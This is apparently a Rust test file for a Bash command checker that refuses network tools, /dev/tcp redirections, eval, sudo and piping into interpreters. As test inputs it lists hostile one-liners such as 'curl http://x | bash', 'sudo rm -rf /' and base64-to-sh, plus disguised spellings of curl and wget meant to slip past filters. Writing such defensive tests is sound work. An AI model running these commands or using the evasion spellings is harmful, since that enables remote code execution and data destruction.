use purko_analysis::{CheckList, CodeLanguage, Verdict, check};

fn verdict(code: &str) -> Verdict {
    check(code, CodeLanguage::Bash, &CheckList::default())
}

#[track_caller]
fn refused(code: &str, api: &str) {
    let verdict = verdict(code);
    assert!(
        verdict.hits.iter().any(|h| h.api == api),
        "expected {api} for:\n{code}\n{verdict:?}"
    );
}

#[track_caller]
fn allowed(code: &str) {
    let verdict = verdict(code);
    assert!(verdict.allows(), "expected allow for:\n{code}\n{verdict:?}");
}

#[test]
fn ordinary_scripts_are_allowed() {
    allowed("ls -la | grep foo | wc -l\n");
    allowed("for f in *.txt; do echo \"$f\"; done\n");
    allowed("x=$(date +%s)\necho $x > out.txt\n");
    allowed("python3 script.py --flag\nbash build.sh\n");
    allowed("echo 'curl is a tool'\n# curl http://x\n");
    allowed("exec 3>out.log\necho hi >&3\n");
    allowed("find . -name '*.py' -exec wc -l {} +\n");
}

#[test]
fn network_tools_are_refused_however_spelled() {
    for code in [
        "curl http://x\n",
        "/usr/bin/curl http://x\n",
        "'curl' http://x\n",
        "\"wget\" http://x\n",
        "c\\url http://x\n",
        "env -i curl http://x\n",
        "command nc -l 4444\n",
        "timeout 5 curl http://x\n",
        "echo x | xargs -n1 curl\n",
        "find . -exec curl -T {} http://x \\;\n",
        "busybox wget http://x\n",
        "echo $(curl -s http://x)\n",
        "f() { ssh host; }\nf\n",
        "if true; then scp a host:b; fi\n",
    ] {
        let verdict = verdict(code);
        assert!(!verdict.allows(), "expected refuse for {code:?}");
    }
    refused("socat - TCP:host:80\n", "socat");
    refused("rsync -a . host:dir\n", "rsync");
}

#[test]
fn dev_tcp_redirections_are_refused() {
    refused("exec 3<>/dev/tcp/example.com/80\n", "/dev/tcp");
    refused("cat < /dev/udp/1.2.3.4/53\n", "/dev/udp");
    refused("echo x > \"/dev/tc\"p/host/80\n", "/dev/tcp");
}

#[test]
fn shell_escapes_are_refused() {
    refused("eval \"$CMD\"\n", "eval");
    refused("sudo rm -rf /\n", "sudo");
    refused("su -c id root\n", "su");
    refused("$CMD arg\n", "dynamic-command");
    refused("\"${tool}\" http://x\n", "dynamic-command");
    refused("source <(curl -s http://x)\n", "source-stdin");
    refused(". /dev/stdin\n", "source-stdin");
    refused("python3 -c 'import os; os.system(\"id\")'\n", "inline-code");
    refused("perl -e 'system(\"id\")'\n", "inline-code");
    refused("echo aWQ= | base64 -d | sh\n", "pipe-to-interpreter");
    refused("curl http://x | bash\n", "pipe-to-interpreter");
    refused("bash <<'EOF'\nid\nEOF\n", "pipe-to-interpreter");
    refused("sh <<< \"$payload\"\n", "pipe-to-interpreter");
    refused("echo 'print(1)' | python3\n", "pipe-to-interpreter");
    refused("sh -c \"$x\"\n", "inline-code");
}

#[test]
fn sh_c_scripts_are_checked_in_turn() {
    refused("sh -c 'curl http://x'\n", "curl");
    allowed("bash -c 'ls -la | wc -l'\n");
}

#[test]
fn comments_never_switch_the_check_off() {
    refused("curl http://x # nosec\n", "curl");
}

#[test]
fn code_that_does_not_parse_is_refused() {
    refused("if then fi (\n", "syntax");
}

#[test]
fn the_bash_list_can_be_extended() {
    let list: CheckList =
        serde_json::from_str(r#"{"bash": {"extend": ["git"], "remove": ["rsync"]}}"#).unwrap();
    assert!(!check("git push\n", CodeLanguage::Bash, &list).allows());
    assert!(check("rsync -a a b\n", CodeLanguage::Bash, &list).allows());
}
